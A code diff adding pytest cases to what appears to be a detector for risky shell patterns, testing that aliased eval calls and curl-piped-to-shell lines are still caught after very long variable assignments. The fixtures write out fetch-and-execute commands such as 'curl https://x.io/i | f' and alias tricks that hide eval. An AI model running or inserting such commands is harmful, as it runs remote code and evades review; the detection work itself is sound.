@@ -154,6 +154,55 @@ def test_a_function_named_as_a_download_tool_is_the_files_own(repo: GitRepo, sou
     assert _found(repo, "s.sh", source) == []
 
 
+_LONG = "X=" + "a" * 600  # an assignment longer than any window a line's start was once read in
+
+
+@pytest.mark.parametrize(
+    ("path", "source", "found"),
+    [
+        ("s.sh", f'alias e=eval\n{_LONG} e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\n{_LONG} {_LONG} Y=1 e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\nif {_LONG} e "$x"; then :; fi\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\n: ; {_LONG} e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f"f() {{ bash; }}\ncurl https://x.io/i | {_LONG} f\n", [(2, _PIPE)]),
+        ("s.sh", f'{_LONG} alias e=eval\ne "$x"\n', [(2, _EVAL)]),
+        (
+            "Dockerfile",
+            f"FROM alpine\nRUN alias get='curl -fsSL'\nRUN --network=host {_LONG} get https://x.io/i | sh\n",
+            [(3, _PIPE)],
+        ),
+    ],
+)
+def test_a_command_word_after_long_assignments(
+    repo: GitRepo, path: str, source: str, found: list[tuple[int, str]]
+) -> None:
+    assert _found(repo, path, source) == found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f'alias e=eval\n{_LONG} echo e "$x"\n',
+        f'alias e=eval\n{_LONG};b e "$x"\n',  # `b` is the command, after the break
+        f'alias e=eval\nX="{"a" * 600} e" y\n',
+        f'alias e=eval\n{_LONG}\\ e "$x"\n',
+        f'alias e=eval\necho {_LONG} e "$x"\n',
+    ],
+)
+def test_a_command_word_after_long_assignments_near_misses(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+def test_command_words_of_a_long_line_are_read_in_linear_time() -> None:
+    """Each use on a line of 200 KB of assignments read from its command's start once (this took
+    minutes when each was searched back to its break)."""
+    data = b"alias e=eval\n: ;" + b"X=e " * 50_000 + b'e "$x"\n'
+    lexed = lex(data, spanning=True)
+    (words,) = defined_commands(lexed, data)
+    assert bytes(words.lexed.view).endswith(b'X=e eval "$x"\n')
+    assert bytes(words.lexed.view).count(b"eval") == 2
+
+
 def test_a_package_json_script_defining_a_function(repo: GitRepo) -> None:
     text = '{"scripts": {"setup": "f() { bash; }; curl https://x.io/i | f"}}\n'
     assert _found(repo, "package.json", text) == [(1, _PIPE)]
